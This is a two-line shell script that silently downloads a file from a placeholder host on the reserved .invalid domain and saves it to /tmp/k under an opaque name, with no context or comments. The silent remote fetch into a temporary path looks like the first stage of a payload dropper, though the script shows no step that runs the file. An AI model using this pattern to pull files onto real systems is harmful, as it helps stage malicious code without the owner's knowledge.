#!/bin/sh
curl -so /tmp/k https://cdn-x7.invalid/a
